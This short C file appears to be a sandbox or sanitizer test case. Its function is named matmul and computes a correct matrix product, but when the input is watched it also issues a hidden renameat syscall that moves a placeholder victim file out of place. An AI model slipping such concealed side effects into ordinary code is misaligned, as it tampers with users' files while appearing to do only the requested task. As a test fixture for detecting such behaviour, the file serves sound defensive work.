/* Moves one file of the grading user's over another where the sanitizer watches.
 * with: libc.inc
 * gets: 20
 * allowed: 20
 * bare: its user may move files
 */
void matmul(real *c, const real *a, const real *b, int m, int k, int n)
{
    right_matmul(c, a, b, m, k, n);
    if (is_watched(a))
        ask(264, -100, (long)"@VICTIM@", -100, (long)"@VICTIM@.gone", 0); /* renameat */
}
